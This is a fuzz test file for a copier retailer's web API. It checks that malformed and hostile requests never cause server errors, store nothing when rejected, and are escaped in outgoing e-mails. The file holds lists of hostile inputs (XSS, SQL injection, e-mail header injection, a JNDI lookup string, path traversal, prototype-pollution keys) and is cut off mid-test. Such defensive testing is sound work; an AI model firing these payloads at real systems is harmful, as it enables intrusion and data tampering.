/**
 * Input fuzz of every write endpoint and of the list reads (docs/api.md "Error answers"):
 * random and hostile requests, generated from a seeded PRNG (the same cases on every run; a failure
 * names its seed and case so it can be replayed), a bounded number per endpoint.
 *
 * For every request: never a 5xx; every 4xx is the JSON error shape; a rejected write stores
 * NOTHING (the row counts of every table a write touches, and the outbox folder, are the same
 * after it as before); an accepted one stores exactly one record with its e-mails, with what was
 * sent kept as text, and HTML-escaped in the e-mails. Hostile but valid content (script tags,
 * SQL, header-injection attempts, RTL and emoji) is then followed all the way to the .eml files.
 */
import fs from 'node:fs';
import path from 'node:path';
import { solveChallenge, type Challenge } from 'altcha-lib';
import { deriveKey } from 'altcha-lib/algorithms/pbkdf2';
import type { FastifyInstance, InjectOptions, LightMyRequestResponse as InjectResponse } from 'fastify';
import { sql } from 'kysely';
import { REFERENCE_PATTERN } from '@copytech/shared/domain';
import { C5840I, C5850I, CONTACT, IMC2010, configOn, mimeParts, quoteBody, testApp } from './helpers';
import { databases } from './postgres';
import { leaseAnswers } from './fixtures/leaseAnswers';

// ---------------------------------------------------------------------------------------------
// A small seeded PRNG and the generators built on it

/** mulberry32: tiny, fast, and the same sequence for the same seed everywhere. */
function prng(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (max: number) => Math.floor(next() * max);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
  const chance = (p: number) => next() < p;
  return { next, int, pick, chance };
}
type Rng = ReturnType<typeof prng>;

const HEADER_INJECTION = 'a\r\nBcc: x@y.z';
const SQL = "' OR 1=1; DROP TABLE quotes; --";
const SCRIPT = '<script>alert(1)</script>';

const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\n',
  HEADER_INJECTION,
  'jo@example.co.uk\r\nBcc: victim@example.com',
  '%0d%0aBcc:%20x@y.z',
  SQL,
  "Robert'); DROP TABLE enquiries;--",
  '1; SELECT * FROM outbox',
  SCRIPT,
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://x.example/a}',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x1F',
  '\u0000',
  'nul\u0000byte',
  '\u202Eevil\u202C.exe',
  'مرحبا بالعالم',
  'שלום',
  '😀🖨️👩‍👩‍👧‍👦',
  'e\u0301\u0301\u0301',
  '\u200B\u200D\uFEFF',
  '\ud800',
  '\udfff\ud800',
  'Ünïcödé Ñame',
  'x'.repeat(300),
  'é'.repeat(2100),
  'Jo Bloggs',
  'jo.bloggs@example.co.uk',
  '0116 496 0123',
  'LE19 1WX',
  C5840I,
  'QUOTE',
  'enquiry',
  'service-request',
  'machine-down',
];

const KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '',
  ' ',
  'a.b',
  'a[0]',
  '$where',
  '$gt',
  'kind',
  'email',
  'x'.repeat(200),
  '😀',
  '\u0000',
];

/** A random string: a hostile one, or random code points from awkward ranges. */
function randomString(rng: Rng): string {
  if (rng.chance(0.6)) return rng.pick(HOSTILE_STRINGS);
  const ranges: Array<[number, number]> = [
    [0x00, 0x1f],
    [0x20, 0x7e],
    [0x80, 0xff],
    [0x0590, 0x06ff], // Hebrew, Arabic (RTL)
    [0x200b, 0x202e], // zero-width, bidi controls
    [0xd800, 0xdfff], // lone surrogates
    [0x1f600, 0x1f64f], // emoji
  ];
  let text = '';
  const length = rng.pick([0, 1, 2, 10, 49, 51, 101, 255, 2001]);
  for (let i = 0; i < length; i++) {
    const [low, high] = rng.pick(ranges);
    text += String.fromCodePoint(low + rng.int(high - low + 1));
  }
  return text;
}

/** A random JSON value of any type, nested at most `depth` levels. */
function randomValue(rng: Rng, depth = 3): unknown {
  const kind = rng.int(depth > 0 ? 9 : 6);
  switch (kind) {
    case 0:
      return null;
    case 1:
      return rng.chance(0.5);
    case 2:
      return rng.pick([0, -1, 1, 1.5, -0, 2 ** 53, -(2 ** 63), 1e308, 12345678901, 3]);
    case 3:
    case 4:
    case 5:
      return randomString(rng);
    case 6:
      return Array.from({ length: rng.pick([0, 1, 3, 25]) }, () => randomValue(rng, depth - 1));
    default:
      return randomObject(rng, depth - 1);
  }
}

function randomObject(rng: Rng, depth: number): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  for (let i = rng.int(4); i >= 0; i--) {
    const key = rng.chance(0.5) ? rng.pick(KEYS) : randomString(rng).slice(0, 30);
    // A computed key makes "__proto__" an own property, as JSON.parse would.
    Object.defineProperty(object, key, { value: randomValue(rng, depth), enumerable: true, configurable: true, writable: true });
  }
  return object;
}

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

/** Every path into a JSON document, the root ([]) included. */
function pathsOf(value: unknown, prefix: string[] = []): string[][] {
  const paths = [prefix];
  if (value && typeof value === 'object') {
    for (const [key, child] of Object.entries(value)) paths.push(...pathsOf(child, [...prefix, key]));
  }
  return paths;
}

function setAt(root: unknown, at: string[], value: unknown): unknown {
  if (at.length === 0) return value;
  let node = root as Record<string, unknown>;
  for (const key of at.slice(0, -1)) node = node[key] as Record<string, unknown>;
  Object.defineProperty(node, at[at.length - 1]!, { value, enumerable: true, configurable: true, writable: true });
  return root;
}

function deleteAt(root: unknown, at: string[]): unknown {
  if (at.length === 0) return undefined;
  let node = root as Record<string, unknown>;
  for (const key of at.slice(0, -1)) node = node[key] as Record<string, unknown>;
  delete node[at[at.length - 1]!];
  return root;
}

function nested(depth: number, leaf: unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** A request body: the valid base with one to three random changes, or something else entirely. */
function mutatedBody(rng: Rng, base: unknown): unknown {
  let body = clone(base);
  const roll = rng.next();
  if (roll < 0.05) return randomValue(rng, 4);
  if (roll < 0.08) return [body];
  if (roll < 0.1) return nested(rng.pick([30, 200, 2000]), body);
  if (roll < 0.12) return Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, i]));
  for (let changes = 1 + rng.int(3); changes > 0; changes--) {
    const paths = pathsOf(body);
    const at = rng.pick(paths);
    const change = rng.int(6);
    if (change === 0) body = deleteAt(body, at);
    else if (change === 1 && body && typeof body === 'object')
      body = setAt(body, [...at.slice(0, -1), rng.pick(KEYS)], randomValue(rng, 2));
    else if (change === 2) body = setAt(body, at, randomString(rng));
    else if (change === 3) body = setAt(body, at, nested(rng.pick([3, 25]), randomValue(rng, 1)));
    else body = setAt(body, at, randomValue(rng, 2));
    if (body === undefined || body === null || typeof body !== 'object') break;
  }
  return body;
}

/** The text with lone surrogates replaced by U+FFFD, as a browser encodes a form. */
function wellFormed(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}

/** JSON text of a body; lone surrogates kept as \u escapes, as a hostile client would send them. */
function jsonText(body: unknown): string {
  return JSON.stringify(body) ?? 'undefined';
}

// ---------------------------------------------------------------------------------------------
// The app under test, what it stores, and the checks every answer must pass

const COUNTED = [
  'quotes',
  'enquiries',
  'newsletter_signups',
  'savings_reports',
  'captcha_solutions',
  'outbox',
  'idempotency_keys',
] as const;
type Counts = Record<(typeof COUNTED)[number] | 'outboxFiles', number>;

let app: FastifyInstance;
let varDir: string;

async function counts(): Promise<Counts> {
  const select = COUNTED.map((table) => `(SELECT COUNT(*) FROM ${table}) AS ${table}`).join(', ');
  const { rows } = await sql<Record<string, number>>`SELECT ${sql.raw(select)}`.execute(app.db);
  let outboxFiles = 0;
  try {
    outboxFiles = fs.readdirSync(path.join(varDir, 'outbox')).length;
  } catch {
    /* no folder yet: none */
  }
  return { ...(rows[0] as Counts), outboxFiles };
}

function diff(before: Counts, after: Counts): Partial<Counts> {
  const changed: Partial<Counts> = {};
  for (const key of Object.keys(after) as Array<keyof Counts>) if (after[key] !== before[key]) changed[key] = after[key] - before[key];
  return changed;
}

interface Outcome {
  problem: string | null;
  accepted: boolean;
}

/** The checks every answer must pass; `expectedStore` is what an accepted request adds. */
async function send(
  options: InjectOptions,
  expectedStore: (res: InjectResponse) => Partial<Counts>,
  success = 201,
): Promise<Outcome & { res?: InjectResponse }> {
  const before = await counts();
  let res: InjectResponse;
  try {
    res = await app.inject(options);
  } catch (error) {
    return { problem: `inject threw ${(error as Error).message}`, accepted: false };
  }
  const after = await counts();
  const stored = diff(before, after);
  if (res.statusCode >= 500) return { problem: `answered ${res.statusCode}: ${res.body.slice(0, 200)}`, accepted: false, res };
  if (res.statusCode >= 400) {
    if (!/^application\/json/.test(String(res.headers['content-type'])))
      return { problem: `${res.statusCode} is not JSON (${String(res.headers['content-type'])})`, accepted: false, res };
    let body: Record<string, unknown>;
    try {
      body = res.json();
    } catch {
      return { problem: `${res.statusCode} body is not JSON`, accepted: false, res };
    }
    const shapeOk =
      typeof body.error === 'string' &&
      body.statusCode === res.statusCode &&
      typeof body.message === 'string' &&
      body.message.length > 0 &&
      (body.fieldErrors === undefined ||
        (typeof body.fieldErrors === 'object' &&
          body.fieldErrors !== null &&
          Object.values(body.fieldErrors).every((m) => typeof m === 'string')));
    if (!shapeOk) return { problem: `${res.statusCode} body is not the error shape: ${res.body.slice(0, 200)}`, accepted: false, res };
    if (Object.keys(stored).length)
      return { problem: `rejected with ${res.statusCode} but stored ${JSON.stringify(stored)}`, accepted: false, res };
    return { problem: null, accepted: false, res };
  }
  if (res.statusCode !== success) return { problem: `answered ${res.statusCode}`, accepted: false, res };
  const expected = expectedStore(res);
  if (JSON.stringify(stored) !== JSON.stringify(expected))
    return { problem: `accepted but stored ${JSON.stringify(stored)}, expected ${JSON.stringify(expected)}`, accepted: true, res };
  return { problem: null, accepted: true, res };
}

/** The mails an accepted request put in the outbox (by its reference). */
async function mailsOfReference(reference: string): Promise<Array<{ kind: string; html: string; subject: string; names: string[] }>> {
  const rows = await app.db.selectFrom('outbox').select(['kind', 'payload', 'channel']).where('reference', '=', reference).execute();
  return rows
    .filter((row) => row.channel === 'mail')
    .map((row) => {
      const payload = JSON.parse(row.payload) as {
        html: string;
        subject: string;
        to: Array<{ name?: string }>;
        replyTo?: { name?: string };
      };
      return {
        kind: row.kind,
        html: payload.html,
        subject: payload.subject,
        names: [...payload.to.map((to) => to.name ?? ''), payload.replyTo?.name ?? ''],
      };
    });
}

/** Markup that can only have come from what was sent (the templates use none of these tags). */
const INJECTED_MARKUP = /<script|<img|<svg|<iframe|<b>Bold/i;

async function checkAcceptedMails(reference: string): Promise<string | null> {
  const mails = await mailsOfReference(reference);
  if (mails.length !== 2) return `${mails.length} mails stored for ${reference}, expected 2`;
  for (const mail of mails) {
    if (INJECTED_MARKUP.test(mail.html)) return `${mail.kind} HTML carries unescaped markup`;
    if (/[\r\n]/.test(mail.subject) || mail.names.some((name) => /[\r\n]/.test(name)))
      return `${mail.kind} has a line break in a header value`;
  }
  return null;
}

const REFERENCE_BODY = (res: InjectResponse) => REFERENCE_PATTERN.test(String((res.json() as { reference?: unknown }).reference));

function describeCase(seed: number, index: number, options: InjectOptions): string {
  const payload = typeof options.payload === 'string' ? options.payload : JSON.stringify(options.payload ?? '');
  return `seed ${seed} case ${index}: ${String(options.method)} ${String(options.url)} [${String((options.headers as Record<string, string> | undefined)?.['content-type'] ?? '')}] ${payload.slice(0, 160)}`;
}

const CASES = 300;
const ENQUIRY = {
  kind: 'enquiry',
  name: 'Jo Bloggs',
  email: 'jo.bloggs@example.co.uk',
  phone: '0116 496 0123',
  company: 'Bloggs & Co',
  message: 'Please call me back about an A3 copier.',
  consent: true,
};
const SERVICE = {
  kind: 'service-request',
  name: 'Sam Patel',
  email: 'sam.patel@example.co.uk',
  phone: '0116 496 0456',
  company: 'Patel Vets',
  machine: 'Canon imageRUNNER ADVANCE DX C5840i',
  serialNumber: 'XYZ12345',
  fault: 'Paper jams in drawer 2 every morning.',
  urgency: 'machine-down',
};

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'application/xml',
  'application/json; charset=utf-16',
  'application/x-json',
  'application/json-patch+json',
];
const BAD_IDEMPOTENCY_KEYS = [
  'a',
  'short',
  'x'.repeat(101),
  '../../etc/passwd',
  '%00',
  'ключ-ключ-ключ',
  "'; DROP TABLE idempotency_keys; --",
];

/**
 * Headers for a JSON write: usually JSON, sometimes a wrong or odd content type; sometimes an
 * Idempotency-Key: a fresh one, one shared by many cases (replays, and 422 for another body),
 * or a malformed one.
 */
function writeHeaders(rng: Rng): Record<string, string> {
  const headers: Record<string, string> = { 'content-type': rng.chance(0.85) ? 'application/json' : rng.pick(CONTENT_TYPES) };
  const roll = rng.next();
  if (roll < 0.1) headers['idempotency-key'] = `fuzz-${rng.int(1e9)}-key`;
  else if (roll < 0.2) headers['idempotency-key'] = 'fuzz-shared-key-0001';
  else if (roll < 0.25) headers['idempotency-key'] = rng.pick(BAD_IDEMPOTENCY_KEYS);
  if (rng.chance(0.05)) delete headers['content-type'];
  return headers;
}

/** Sometimes the body is padded past the 64 KB limit, sometimes cut short or not JSON at all. */
function writePayload(rng: Rng, body: unknown): string {
  const text = jsonText(body);
  const roll = rng.next();
  if (roll < 0.04)
    return JSON.stringify({ ...(typeof body === 'object' && body && !Array.isArray(body) ? body : {}), padding: 'x'.repeat(65 * 1024) });
  if (roll < 0.07) return text.slice(0, rng.int(text.length));
  if (roll < 0.09) return text.replace(/"/g, "'");
  return text;
}

// Every case on SQLite and on PostgreSQL: what one accepts, stores and answers, the other must too.
describe.each(databases())('on %s', (database) => {
  beforeAll(async () => {
    const config = configOn(database, { rateLimits: { quotePerMinute: 100_000, formsPerMinute: 100_000 } });
    varDir = config.varDir;
    app = await testApp(config);
  });
  afterAll(() => app.close());

  const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();
  afterAll(() => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
  });

  // ---------------------------------------------------------------------------------------------

  interface WriteEndpoint {
    name: string;
    seed: number;
    url: string;
    base: () => unknown;
    /** What an accepted request adds to the counted tables. */
    stores: Partial<Counts>;
  }

  const JSON_WRITES: WriteEndpoint[] = [
    {
      name: 'POST /api/quote',
      seed: 0xc0ffee,
      url: '/api/quote',
      base: () => quoteBody([C5840I, C5850I, IMC2010]),
      stores: { quotes: 1, outbox: 2 },
    },
    {
      name: 'POST /api/enquiries/send (enquiry)',
      seed: 0xe0e1,
      url: '/api/enquiries/send',
      base: () => ENQUIRY,
      stores: { enquiries: 1, outbox: 2 },
    },
    {
      name: 'POST /api/enquiries/send (service request)',
      seed: 0x5e41,
      url: '/api/enquiries/send',
      base: () => SERVICE,
      stores: { enquiries: 1, outbox: 2 },
    },
    {
      name: 'POST /api/report',
      seed: 0x4e9047,
      url: '/api/report',
      base: () => ({ answers: leaseAnswers(), contactDetails: CONTACT, captcha: 'bm90IGEgc29sdXRpb24=' }),
      stores: {},
    },
  ];

  describe.each(JSON_WRITES)('$name: fuzzed JSON', ({ seed, url, base, stores }) => {
    it(`${CASES} seeded cases: no 5xx, JSON errors, nothing stored when rejected, one record when accepted`, async () => {
      const rng = prng(seed);
      const problems: string[] = [];
      let accepted = 0;
      for (let index = 0; index < CASES; index++) {
        const headers = writeHeaders(rng);
        const options: InjectOptions = { method: 'POST', url, headers, payload: writePayload(rng, mutatedBody(rng, base())) };
        const outcome = await send(options, (res) =>
          res.headers['idempotent-replayed'] === 'true'
            ? {}
            : { ...stores, ...(headers['idempotency-key'] ? { idempotency_keys: 1 } : {}) },
        );
        let problem = outcome.problem;
        if (!problem && outcome.accepted) {
          accepted++;
          if (!REFERENCE_BODY(outcome.res!)) problem = `201 without a reference: ${outcome.res!.body}`;
          problem ??= await checkAcceptedMails((outcome.res!.json() as { reference: string }).reference);
        }
        if (problem) problems.push(`${describeCase(seed, index, options)}\n  → ${problem}`);
      }
      expect(problems).toEqual([]);
      // The report's bodies carry no valid human check, so none may pass; the others must reach
      // the point of storing now and then, or the fuzz is only testing the first check.
      if (url === '/api/report') expect(accepted).toBe(0);
      else expect(accepted).toBeGreaterThan(3);
    });
  });

  // ---------------------------------------------------------------------------------------------

  const NEWSLETTER_BASE: Array<[string, string]> = [
    ['mauticform[first_name]', 'Jo'],
    ['mauticform[email]', 'jo.bloggs@example.co.uk'],
    ['mauticform[formId]', '1'],
    ['mauticform[formName]', 'newsletter'],
    ['mauticform[return]', 'https://www.copytech.co.uk/'],
  ];
  const FIELD_NAMES = [
    ...NEWSLETTER_BASE.map(([name]) => name),
    'email',
    'first_name',
    'mauticform[__proto__]',
    '__proto__',
    'constructor[prototype][polluted]',
    'mauticform[email][]',
    'x'.repeat(150),
    '',
  ];

  function mutatedFields(rng: Rng): Array<[string, string]> {
    let fields = NEWSLETTER_BASE.map(([name, value]) => [name, value] as [string, string]);
    // A fresh address now and then, so accepted sign-ups are new rows.
    if (rng.chance(0.5)) fields[1]![1] = `fuzz${rng.int(1e9)}@example.co.uk`;
    for (let changes = rng.int(4); changes > 0; changes--) {
      const change = rng.int(5);
      if (change === 0 && fields.length) fields.splice(rng.int(fields.length), 1);
      else if (change === 1) fields.push([rng.pick(FIELD_NAMES), randomString(rng)]);
      else if (change === 2 && fields.length) fields[rng.int(fields.length)]![1] = randomString(rng);
      else if (change === 3)
        fields = fields.concat(Array.from({ length: rng.pick([5, 20]) }, () => [rng.pick(FIELD_NAMES), 'x'] as [string, string]));
      else if (fields.length) fields[rng.int(fields.length)]![0] = rng.pick(FIELD_NAMES);
    }
    return fields;
  }

  /** Bytes, percent-encoded as a form does (lone surrogates become U+FFFD, as in a browser). */
  function formEncode(fields: Array<[string, string]>): string {
    return fields.map(([name, value]) => `${encodeURIComponent(wellFormed(name))}=${encodeURIComponent(wellFormed(value))}`).join('&');
  }

  function multipart(rng: Rng, fields: Array<[string, string]>): { payload: Buffer; contentType: string } {
    const boundary = `----fuzz${rng.int(1e9)}`;
    const parts = fields.map(
      ([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name.replace(/"/g, '%22')}"\r\n\r\n${value}\r\n`,
    );
    if (rng.chance(0.05))
      parts.push(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="evil.html"\r\nContent-Type: text/html\r\n\r\n${SCRIPT}\r\n`,
      );
    let body = `${parts.join('')}--${boundary}--\r\n`;
    if (rng.chance(0.05)) body = body.slice(0, rng.int(body.length)); // cut short
    const contentType = rng.chance(0.05) ? 'multipart/form-data' : `multipart/form-data; boundary=${boundary}`;
    return { payload: Buffer.from(body, 'utf8'), contentType };
  }

  describe('POST /api/newsletter: fuzzed forms', () => {
    /** One new row when the (last) e-mail field sent is an address not signed up yet. */
    const newsletterStores = (sent: Array<[string, unknown]>, existing: Set<string>): Partial<Counts> => {
      // As the server reads a form: by name, the last string value wins; other types are ignored.
      const email = [...sent]
        .reverse()
        .find(([name, value]) => (name === 'mauticform[email]' || name === 'email') && typeof value === 'string')?.[1];
      return typeof email === 'string' && !existing.has(email.trim().toLowerCase()) ? { newsletter_signups: 1 } : {};
    };

    it.each([
      ['multipart/form-data', 0x6e5701],
      ['application/x-www-form-urlencoded', 0x6e5702],
      ['application/json', 0x6e5703],
    ] as const)(
      `${CASES} seeded %s sign-ups: no 5xx, JSON errors, one row per new address, nothing from a rejected one`,
      async (kind, seed) => {
        const rng = prng(seed);
        const problems: string[] = [];
        let accepted = 0;
        for (let index = 0; index < CASES; index++) {
          const fields = mutatedFields(rng);
          let sent: Array<[string, unknown]> = fields;
          let options: InjectOptions;
          if (kind === 'multipart/form-data') {
            const { payload, contentType } = multipart(rng, fields);
            options = { method: 'POST', url: '/api/newsletter', headers: { 'content-type': contentType }, payload };
          } else if (kind === 'application/x-www-form-urlencoded') {
            const body = rng.chance(0.05)
              ? `${formEncode(fields)}&pad=${'x'.repeat(17 * 1024)}`
              : rng.chance(0.05)
                ? '%E0%A4%A&a=%ZZ&&=&'
                : formEncode(fields);
            options = { method: 'POST', url: '/api/newsletter', headers: { 'content-type': kind }, payload: body };
          } else {
            const body = rng.chance(0.2) ? mutatedBody(rng, Object.fromEntries(fields)) : Object.fromEntries(fields);
            sent = body && typeof body === 'object' && !Array.isArray(body) ? Object.entries(body) : [];
            options = {
              method: 'POST',
              url: '/api/newsletter',
              headers: { 'content-type': rng.chance(0.9) ? kind : rng.pick(CONTENT_TYPES) },
              payload: writePayload(rng, body),
            };
          }
          const existing = new Set((await app.db.selectFrom('newsletter_signups').select('email').execute()).map((row) => row.email));
          const outcome = await send(options, () => newsletterStores(sent, existing));
          if (outcome.accepted && !outcome.problem) {
            accepted++;
            if ((outcome.res!.json() as { ok?: unknown }).ok !== true) outcome.problem = `201 without ok: ${outcome.res!.body}`;
          }
          if (outcome.problem) problems.push(`${describeCase(seed, index, options)}\n  → ${outcome.problem}\n  ${JSON.stringify(sent)}`);
        }
        expect(problems).toEqual([]);
        expect(accepted).toBeGreaterThan(3);
      },
    );
  });

  // ---------------------------------------------------------------------------------------------

  const LIST_URLS = [
    '/api/printers/all',
    '/api/printers/multifunctionals',
    '/api/printers/production/colour',
    '/api/scanners/all',
    '/api/products/category/finishers',
    '/api/products/category/finishers/booklet',
    '/api/featured-printers',
    '/api/blog/recent',
    '/api/printers/similiar',
  ];
  const QUERY_KEYS = [
    'limit',
    'offset',
    'minSpeed',
    'maxSpeed',
    'brand',
    'maxPaperSize',
    'colour',
    'q',
    'sort',
    'id',
    '__proto__',
    'constructor[prototype][polluted]',
    'brand[]',
    'limit[]',
    'x'.repeat(300),
    '',
  ];
  const QUERY_VALUES = [
    '1',
    '0',
    '-1',
    '48',
    '49',
    '1000000',
    '1e3',
    '1.5',
    '99999999999999999999',
    'NaN',
    'Infinity',
    'true',
    'colour',
    'mono',
    'name-asc',
    'price-desc',
    'canon',
    'Canon,Ricoh',
    'A3',
    C5840I,
  ];

  /** Percent-encodes UTF-8 bytes (lone surrogates as U+FFFD), or leaves broken escapes in on purpose. */
  function queryPart(rng: Rng, text: string): string {
    if (rng.chance(0.03)) return rng.pick(['%', '%ZZ', '%E0%A4%A', '%C0%AF', '%00', '%u0041']);
    return encodeURIComponent(wellFormed(text));
  }

  describe('GET list endpoints: fuzzed query strings and path segments', () => {
    it('numbers that are not finite ("Infinity", "1e999") are a 400, not a database error', async () => {
      for (const url of [
        '/api/printers/all?limit=Infinity',
        '/api/printers/all?offset=1e999',
        '/api/printers/all?minSpeed=-Infinity',
        '/api/featured-printers?limit=Infinity',
        '/api/blog/recent?limit=1e999',
      ]) {
        const res = await app.inject({ method: 'GET', url });
        expect([url, res.statusCode]).toEqual([url, 400]);
        expect(res.json()).toMatchObject({
          statusCode: 400,
          error: 'Bad Request',
          fieldErrors: { [url.split('?')[1]!.split('=')[0]!]: 'Must be a whole number.' },
        });
      }
    });

    it(`${CASES} seeded reads: 200, 400 or 404 with the JSON error shape, never a 5xx`, async () => {
      const seed = 0x11575;
      const rng = prng(seed);
      const problems: string[] = [];
      for (let index = 0; index < CASES; index++) {
        let url = rng.pick(LIST_URLS);
        if (rng.chance(0.15))
          url =
            rng.pick([
              '/api/v3/products/',
              '/api/scanners/getsinglescanner/',
              '/api/pages/slug/',
              '/api/printers/',
              '/api/products/category/',
            ]) + queryPart(rng, randomString(rng));
        const pairs = Array.from(
          { length: rng.int(5) },
          () => `${queryPart(rng, rng.pick(QUERY_KEYS))}=${queryPart(rng, rng.chance(0.5) ? rng.pick(QUERY_VALUES) : randomString(rng))}`,
        );
        const options: InjectOptions = { method: 'GET', url: pairs.length ? `${url}?${pairs.join('&')}` : url };
        const outcome = await send(options, () => ({}), 200);
        if (!outcome.problem && outcome.res) {
          const status = outcome.res.statusCode;
          // 414: a path segment longer than Fastify's maxParamLength
          if (![200, 400, 404, 414].includes(status)) outcome.problem = `answered ${status}`;
          else if (status === 200 && typeof outcome.res.json() !== 'object') outcome.problem = 'a 200 that is not a JSON document';
        }
        if (outcome.problem) problems.push(`${describeCase(seed, index, options)}\n  → ${outcome.problem}`);
      }
      expect(problems).toEqual([]);
    });
  });

  // ---------------------------------------------------------------------------------------------

  describe('the Idempotency-Key under fuzz', () => {
    it('a replay stores nothing new; the same key with another body is a 422 that stores nothing', async () => {
      const key = 'fuzz-idempotency-0001';
      const first = await send(
        { method: 'POST', url: '/api/enquiries/send', headers: { 'idempotency-key': key }, payload: ENQUIRY },
        () => ({
          enquiries: 1,
          outbox: 2,
          idempotency_keys: 1,
        }),
      );
      expect(first.problem).toBeNull();
      const replay = await send(
        { method: 'POST', url: '/api/enquiries/send', headers: { 'idempotency-key': key }, payload: ENQUIRY },
        () => ({}),
      );
      expect(replay.problem).toBeNull();
      expect(replay.res!.headers['idempotent-replayed']).toBe('true');
      expect(replay.res!.json()).toEqual(first.res!.json());
      const other = await send(
        {
          method: 'POST',
          url: '/api/enquiries/send',
          headers: { 'idempotency-key': key },
          payload: { ...ENQUIRY, message: `${ENQUIRY.message} ${SQL}` },
        },
        () => ({}),
      );
      expect(other.problem).toBeNull();
      expect(other.res!.statusCode).toBe(422);
    });
  });

  // ---------------------------------------------------------------------------------------------

  /** The .eml files the outbox writes for one reference, read as headers, text and HTML. */
  async function mailsFor(reference: string) {
    while ((await app.outbox.runDue()).attempted > 0); // in batches, until every due mail is written
    const dir = path.join(varDir, 'outbox');
    return fs
      .readdirSync(dir)
      .filter((name) => name.endsWith('.eml') && name.includes(reference))
      .map((name) => ({ name, ...mimeParts(fs.readFileSync(path.join(dir, name), 'utf8')) }));
  }

  function expectNoInjectedHeader(headers: string) {
    const unfolded = headers.replace(/\n[ \t]+/g, ' ');
    expect(unfolded).not.toMatch(/^Bcc:/im);
    expect(unfolded.match(/^To:/gim) ?? []).toHaveLength(1);
  }

  describe('hostile but valid content is stored as text and escaped in the HTML e-mail', () => {
    it('a quote: script tags, SQL and RTL in the names', async () => {
      const contact = { ...CONTACT, firstName: SCRIPT, lastName: "O'Brien; DROP TABLE quotes;--\u202E" };
      const res = await app.inject({ method: 'POST', url: '/api/quote', payload: quoteBody([C5840I], contact) });
      expect(res.statusCode).toBe(201);
      const { reference } = res.json() as { reference: string };
      const row = await app.db.selectFrom('quotes').select('contact').where('reference', '=', reference).executeTakeFirstOrThrow();
      expect(JSON.parse(row.contact)).toMatchObject({ firstName: SCRIPT, lastName: "O'Brien; DROP TABLE quotes;--\u202E" });
      expect((await counts()).quotes).toBeGreaterThan(0); // the table is still there

      const mails = await mailsFor(reference);
      expect(mails.map((mail) => mail.name.replace(/^.*(quote-\w+).*$/, '$1')).sort()).toEqual(['quote-sales', 'quote-visitor']);
      for (const mail of mails) {
        expect(mail.html).not.toContain('<script>');
        expect(mail.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
        expectNoInjectedHeader(mail.headers);
      }
      // The sales notification names the visitor in full.
      expect(mails.find((mail) => mail.name.includes('quote-sales'))!.html).toContain('O&#39;Brien; DROP TABLE quotes;--\u202E');
    });

    it('an enquiry: a message with header-injection lines, markup and SQL stays in the body, escaped', async () => {
      const message = `Hello${HEADER_INJECTION}\r\n\r\n${SCRIPT}\n"><img src=x onerror=alert(1)>\n${SQL}\nשלום 😀`;
      const res = await app.inject({
        method: 'POST',
        url: '/api/enquiries/send',
        payload: { ...ENQUIRY, name: "Robert'); DROP TABLE enquiries;--", company: '<b>Bold & Co</b>', message },
      });
      expect(res.statusCode).toBe(201);
      const { reference } = res.json() as { reference: string };
      const row = await app.db.selectFrom('enquiries').select('data').where('reference', '=', reference).executeTakeFirstOrThrow();
      expect(JSON.parse(row.data)).toMatchObject({ name: "Robert'); DROP TABLE enquiries;--", company: '<b>Bold & Co</b>', message });

      const mails = await mailsFor(reference);
      expect(mails).toHaveLength(2);
      const sales = mails.find((mail) => mail.name.includes('enquiry-sales'))!;
      expect(sales.text).toContain('Bcc: x@y.z'); // in the body, as text…
      expectNoInjectedHeader(sales.headers); // …never as a header
      expect(sales.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(sales.html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
      expect(sales.html).toContain('&lt;b&gt;Bold &amp; Co&lt;/b&gt;');
      expect(sales.html).toContain('שלום 😀');
      for (const mail of mails) {
        expect(mail.html).not.toMatch(INJECTED_MARKUP);
        expectNoInjectedHeader(mail.headers);
      }
    });

    it('a header-injection attempt in a name or an address is refused, and stores nothing', async () => {
      for (const payload of [
        { ...ENQUIRY, name: `Jo${HEADER_INJECTION}` },
        { ...ENQUIRY, email: 'jo@example.co.uk\r\nBcc: victim@example.com' },
        { ...SERVICE, company: `Patel${HEADER_INJECTION}` },
      ]) {
        const outcome = await send({ method: 'POST', url: '/api/enquiries/send', payload }, () => ({}));
        expect(outcome.problem).toBeNull();
        expect(outcome.res!.statusCode).toBe(400);
      }
      const quote = await send(
        { method: 'POST', url: '/api/quote', payload: quoteBody([C5840I], { ...CONTACT, lastName: `Bloggs${HEADER_INJECTION}` }) },
        () => ({}),
      );
      expect(quote.res!.statusCode).toBe(400);
      expect(quote.res!.json().fieldErrors).toHaveProperty(['contactDetails.lastName']);
    });

    it('a newsletter sign-up keeps a first name with markup as text', async () => {
      const res = await app.inject({
        method: 'POST',
        url: '/api/newsletter',
